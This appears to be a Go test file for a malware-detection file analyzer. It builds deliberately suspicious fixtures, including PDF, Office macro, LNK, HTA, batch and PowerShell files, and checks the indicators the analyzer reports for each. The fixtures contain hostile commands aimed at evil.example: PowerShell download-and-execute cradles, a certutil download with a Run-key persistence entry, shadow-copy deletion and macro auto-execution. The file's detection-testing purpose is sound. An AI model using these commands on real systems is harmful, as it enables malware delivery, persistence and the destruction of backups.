package fileprocessor

import (
	"crypto/sha256"
	"encoding/hex"
	"flag"
	"fmt"
	"os"
	"path/filepath"
	"sort"
	"strings"
	"testing"

	hostmodulev1 "github.com/athena-mesh/athena/proto/gen/athena/module/v1"
	modulev1 "github.com/athena-mesh/athena/wasm-modules/internal/gen/athena/module/v1"
	"github.com/athena-mesh/athena/wasm-modules/internal/hostmsg"
	"google.golang.org/protobuf/encoding/protojson"
	"google.golang.org/protobuf/proto"
)

var update = flag.Bool("update", false, "rewrite testdata/fixtures and testdata/golden")

// fixtures builds the hand-made fixture set. With -update they are written to
// testdata/fixtures; without it the committed bytes are what the golden reports describe.
func fixtures(t testing.TB) map[string][]byte {
	js := `var u = "http://evil.example/p.exe";
var x = new ActiveXObject("MSXML2.XMLHTTP");
x.open("GET", u, false); x.send();
var sh = new ActiveXObject("WScript.Shell");
sh.Run("cmd /c powershell -w hidden -nop -c calc");
`
	ps := "$c = (New-Object Net.WebClient).DownloadString('http://evil.example/a.ps1')\r\nIEX $c\r\npowershell.exe -NoProfile -EncodedCommand SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAKQA=\r\n"
	vbaSrc := "Attribute VB_Name = \"Module1\"\r\nSub AutoOpen()\r\n  Dim s\r\n  s = \"powershell -enc SQBFAFgA\"\r\n  Shell s, 0\r\nEnd Sub\r\n"
	docSrc := "Attribute VB_Name = \"ThisDocument\"\r\nPrivate Sub Document_Open()\r\n  CreateObject(\"WScript.Shell\").Run \"calc.exe\"\r\nEnd Sub\r\n"
	vbaProject := buildCFB(t, map[string][]byte{
		"VBA/dir":     vbaDir("Module1"),
		"VBA/Module1": ovbaCompressLiterals([]byte(vbaSrc)),
		"PROJECT":     []byte("ID=\"{00000000-0000-0000-0000-000000000000}\"\r\nModule=Module1\r\n"),
	}, nil)
	inner := zipFiles(t, [][2]string{{"stage2.ps1", ps}})
	return map[string][]byte{
		"packed.exe": buildPE(t, peSpec{
			timestamp: 0x2a425e19, entry: 0x9010, rich: true,
			sections: []peSec{
				{name: "UPX0", vsize: 0x8000, chars: 0xe0000080},
				{name: "UPX1", chars: 0xe0000040, data: randomBytes(0x1000, 1)},
			},
			imports: []peDLL{{"KERNEL32.DLL", []string{"LoadLibraryA", "GetProcAddress", "VirtualProtect"}}, {"WS2_32.dll", []string{"#23", "#115"}}},
			overlay: randomBytes(300, 2),
		}),
		"dropper.pdf": buildPDF([]string{
			"<< /Type /Catalog /Pages 3 0 R /OpenAction 4 0 R /Names << /EmbeddedFiles 6 0 R >> >>",
			"<< /Title (Invoice 2026) /Author (Accounts \\(AP\\)) /Producer (hand-made fixture) >>",
			"<< /Type /Pages /Kids [] /Count 0 >>",
			"<< /Type /Action /S /JavaScript /JS 5 0 R >>",
			pdfStream("/Filter /FlateDecode", zlibOf([]byte(`var u = "http://evil.example/p.exe"; app.launchURL(u); eval(unescape("%61%6c%65%72%74"));`))),
			"<< /Names [(invoice.js) 7 0 R] >>",
			"<< /Type /Filespec /F (invoice.js) /EF << /F 8 0 R >> >>",
			pdfStream("/Type /EmbeddedFile /Filter /ASCIIHexDecode", []byte(hex.EncodeToString([]byte(`WScript.CreateObject("WScript.Shell").Run("calc");`))+">")),
			"<< /Type /Action /S /Launch /F (cmd.exe) >>",
			"<< /Type /Annot /Subtype /Link /A << /S /URI /URI (http://evil.example/landing) >> >>",
			"<< /S /J#61vaScript /JS (app.alert\\(1\\)) >>",
		}),
		"dropper.zip": zipFiles(t, [][2]string{{"invoice.js", js}, {"readme.txt", "open the invoice\n"}, {"inner.zip", string(inner)}}),
		"macro.docm": zipFiles(t, [][2]string{
			{"[Content_Types].xml", `<?xml version="1.0"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"><Override PartName="/word/document.xml" ContentType="application/vnd.ms-word.document.macroEnabled.main+xml"/></Types>`},
			{"_rels/.rels", `<?xml version="1.0"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/officeDocument" Target="word/document.xml"/></Relationships>`},
			{"word/document.xml", `<?xml version="1.0"?><w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"><w:body><w:p><w:r><w:t>Enable content</w:t></w:r></w:p></w:body></w:document>`},
			{"word/_rels/settings.xml.rels", `<?xml version="1.0"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="rId9" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate" Target="http://evil.example/t.dotm" TargetMode="External"/></Relationships>`},
			{"word/vbaProject.bin", string(vbaProject)},
		}),
		"macro.doc": buildCFB(t, map[string][]byte{
			"WordDocument":                  make([]byte, 600),
			"Macros/VBA/dir":                vbaDir("ThisDocument"),
			"Macros/VBA/ThisDocument":       ovbaCompressLiterals([]byte(docSrc)),
			"Macros/PROJECT":                []byte("Document=ThisDocument/&H00000000\r\n"),
			"\x05SummaryInformation":        make([]byte, 100),
			"ObjectPool/_1/\x01Ole10Native": append([]byte{20, 0, 0, 0}, []byte("MZ embedded payload")...),
		}, nil),
		"cradle.ps1": []byte(ps),
		"invoice.lnk": buildLNK(`C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe`,
			"-w hidden -nop -c IEX (New-Object Net.WebClient).DownloadString('http://evil.example/a')", `C:\Windows\System32\shell32.dll`),
		"delivery.iso": buildISO([][2]string{{"README.TXT", "open invoice\r\n"}, {"INVOICE.JS", js}}),
		"setup.cab":    buildCAB([][2]string{{"setup.exe", "MZ setup stub"}, {"payload.dll", "MZ payload stub"}}, true),
		"update.hta":   []byte("<html><head><HTA:APPLICATION ID=\"u\" WINDOWSTATE=\"minimize\">\n<script language=\"VBScript\">\nSet sh = CreateObject(\"WScript.Shell\")\nsh.Run \"powershell -w hidden -enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAKQA=\", 0\nself.close\n</script></head></html>\n"),
		"loader.js":    []byte(js),
		"run.bat":      []byte("@echo off\r\ncertutil.exe -urlcache -split -f http://evil.example/x.exe %TEMP%\\x.exe\r\nreg add HKCU\\Software\\Microsoft\\Windows\\CurrentVersion\\Run /v x /d %TEMP%\\x.exe\r\nvssadmin delete shadows /all /quiet\r\n"),
	}
}

func pdfStream(dict string, data []byte) string {
	return fmt.Sprintf("<< %s /Length %d >>\nstream\n%s\nendstream", dict, len(data), data)
}

// normalize replaces artifact bytes by their hash so golden files stay readable.
func normalize(tb testing.TB, resp *modulev1.AnalyzeResponse) *hostmodulev1.AnalyzeResponse {
	out := hostmsg.ToHost[hostmodulev1.AnalyzeResponse](tb, resp)
	for _, a := range out.Artifacts {
		sum := sha256.Sum256(a.Content)
		a.Content = []byte("sha256:" + hex.EncodeToString(sum[:]))
	}
	return out
}

func TestGolden(t *testing.T) {
	fx := fixtures(t)
	names := make([]string, 0, len(fx))
	for n := range fx {
		names = append(names, n)
	}
	sort.Strings(names)
	for _, name := range names {
		t.Run(name, func(t *testing.T) {
			fixture := filepath.Join("testdata", "fixtures", name)
			golden := filepath.Join("testdata", "golden", name+".json")
			if *update {
				for _, d := range []string{filepath.Dir(fixture), filepath.Dir(golden)} {
					if err := os.MkdirAll(d, 0o755); err != nil {
						t.Fatal(err)
					}
				}
				if err := os.WriteFile(fixture, fx[name], 0o644); err != nil {
					t.Fatal(err)
				}
			}
			data, err := os.ReadFile(fixture)
			if err != nil {
				t.Fatalf("read fixture (run with -update to create it): %v", err)
			}
			resp, err := New().Analyze(&modulev1.AnalyzeRequest{Content: data, Filename: name})
			if err != nil {
				t.Fatal(err)
			}
			got := normalize(t, resp)
			if *update {
				b, err := protojson.MarshalOptions{Multiline: true, Indent: "  "}.Marshal(got)
				if err != nil {
					t.Fatal(err)
				}
				if err := os.WriteFile(golden, append(b, '\n'), 0o644); err != nil {
					t.Fatal(err)
				}
			}
			b, err := os.ReadFile(golden)
			if err != nil {
				t.Fatalf("read golden (run with -update to create it): %v", err)
			}
			want := &hostmodulev1.AnalyzeResponse{}
			if err := protojson.Unmarshal(b, want); err != nil {
				t.Fatalf("parse golden: %v", err)
			}
			if !proto.Equal(want, got) {
				t.Errorf("report differs from %s (rerun with -update if intended):\n%s", golden, lineDiff(protojson.Format(want), protojson.Format(got)))
			}
		})
	}
}

// TestGoldenIndicators pins the indicators each fixture was built to carry, so an -update that
// silently loses one fails here.
func TestGoldenIndicators(t *testing.T) {
	want := map[string][]string{
		"packed.exe":   {"pe.section_wx", "pe.high_entropy_code", "pe.packer_section", "pe.suspicious_timestamp"},
		"dropper.pdf":  {"pdf.javascript", "pdf.auto_action", "pdf.launch", "pdf.embedded_file", "pdf.name_obfuscation", "pdf.uri"},
		"dropper.zip":  {},
		"macro.docm":   {"vba.macros", "vba.autoexec", "ooxml.external_relationship"},
		"macro.doc":    {"vba.macros", "vba.autoexec"},
		"cradle.ps1":   {"script.download_cradle", "script.invoke_expression", "script.encoded_command"},
		"loader.js":    {"script.activex_object", "script.wscript_shell", "script.download_cradle", "script.hidden_execution"},
		"run.bat":      {"script.download_cradle", "script.run_key", "script.shadow_delete"},
		"invoice.lnk":  {"lnk.launches_interpreter", "lnk.download_cradle", "lnk.invoke_expression", "lnk.hidden_execution"},
		"delivery.iso": {"archive.disk_image_payload"},
		"setup.cab":    {},
	}
	wantArtifacts := map[string]int{"dropper.pdf": 3, "dropper.zip": 3, "macro.docm": 2, "macro.doc": 2, "delivery.iso": 2, "setup.cab": 2, "update.hta": 1}
	fx := fixtures(t)
	for name, ids := range want {
		t.Run(name, func(t *testing.T) {
			resp, err := New().Analyze(&modulev1.AnalyzeRequest{Content: fx[name]})
			if err != nil {
				t.Fatal(err)
			}
			got := map[string]bool{}
			for _, f := range resp.Findings {
				got[f.Id] = true
				if f.Module != Name || f.Severity == 0 || f.Reason == "" {
					t.Errorf("finding %s lacks module, severity or reason: %v", f.Id, f)
				}
			}
			for _, id := range ids {
				if !got[id] {
					t.Errorf("missing finding %s; got %v", id, keys(got))
				}
			}
			if n, ok := wantArtifacts[name]; ok && len(resp.Artifacts) != n {
				t.Errorf("artifacts = %d, want %d", len(resp.Artifacts), n)
			}
			for _, a := range resp.Artifacts {
				if a.Kind != 1 || a.Filename == "" || a.Description == "" || len(a.Provenance) == 0 {
					t.Errorf("artifact lacks kind, filename, description or provenance: %+v", a)
				}
			}
		})
	}
}

func keys(m map[string]bool) []string {
	var out []string
	for k := range m {
		out = append(out, k)
	}
	sort.Strings(out)
	return out
}

// lineDiff shows the lines that differ, enough to locate a change in a golden report.
func lineDiff(a, b string) string {
	al, bl := strings.Split(a, "\n"), strings.Split(b, "\n")
	var sb strings.Builder
	for i := 0; i < max(len(al), len(bl)) && sb.Len() < 4000; i++ {
		var x, y string
		if i < len(al) {
			x = al[i]
		}
		if i < len(bl) {
			y = bl[i]
		}
		if x != y {
			fmt.Fprintf(&sb, "line %d:\n- %s\n+ %s\n", i+1, x, y)
		}
	}
	return sb.String()
}

func analyzeReq(data []byte) *modulev1.AnalyzeRequest {
	return &modulev1.AnalyzeRequest{Content: data}
}
